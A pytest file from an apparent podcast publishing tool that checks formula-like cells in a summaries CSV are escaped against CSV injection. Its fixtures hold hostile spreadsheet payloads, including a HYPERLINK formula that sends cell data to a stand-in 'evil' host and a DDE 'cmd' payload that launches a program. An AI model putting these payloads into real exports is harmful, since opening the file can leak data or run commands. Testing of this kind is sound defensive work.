"""summaries.csv opened in a spreadsheet runs nothing: a cell the catalog gives starting like a formula (= + - @,
a tab, a carriage return) is written with a leading `'` (OWASP, "CSV Injection"), read back by Python's csv
reader; summaries.json holds every value as it is."""
from __future__ import annotations

import csv
import io
import json

import pytest

from podcast.config import load_show
from podcast.publishing.catalog import Catalog, EpisodeEntry
from podcast.publishing.summaries import CSV, JSON, summaries_files

from tests.support.show import REPO

HOSTILE = ['=HYPERLINK("http://evil/?"&A1,"x")', "@SUM(1+1)", "+1+1", "-2+3", "\t=1+1", "\r=1+1"]
SUMMARIZER = "=cmd|' /C calc'!A0"


@pytest.fixture
def files(tmp_path) -> dict[str, bytes]:
    items = [{"title": text, "url": None, "authors": text, "summarizers": [SUMMARIZER], "section": [text]}
             for text in HOSTILE]
    items.append({"title": "A paper, quoted \"as is\"", "url": "https://example.org/p", "authors": "Ada Lovelace",
                  "summarizers": [], "section": ["Highlights"]})
    entry = EpisodeEntry.from_json({
        "number": 7, "guid": "g", "title": "=AN #7", "date": "2020-05-13", "description": "d", "link": None,
        "audio": "episodes/007/a.mp3", "audio_bytes": 1, "duration_s": 60.0,
        "chapters": [{"title": text, "url": None, "start_s": 10.0 + n} for n, text in enumerate(HOSTILE)],
        "items": items})
    return summaries_files(tmp_path / "site", load_show(REPO / "podcast.toml"), Catalog(tmp_path / "catalog.json", {7: entry}), "a.png")


def test_a_cell_starting_like_a_formula_is_text_in_the_csv(files):
    rows = list(csv.DictReader(io.StringIO(files[CSV].decode("utf-8"), newline="")))
    assert [(r["title"], r["authors"], r["summarized_by"], r["section"], r["episode"]) for r in rows[:-1]] == \
        [(f"'{text}", f"'{text}", f"'{SUMMARIZER}", f"'{text}", "'=AN #7") for text in HOSTILE]
    assert (rows[-1]["title"], rows[-1]["authors"], rows[-1]["url"]) == \
        ('A paper, quoted "as is"', "Ada Lovelace", "https://example.org/p")
    assert [r["start_s"] for r in rows] == ["10.0", "11.0", "12.0", "13.0", "14.0", "15.0", ""]


def test_the_json_holds_every_value_as_it_is(files):
    rows = json.loads(files[JSON])
    assert [(r["title"], r["authors"], r["summarized_by"], r["section"], r["episode"]) for r in rows[:-1]] == \
        [(text, text, SUMMARIZER, text, "=AN #7") for text in HOSTILE]
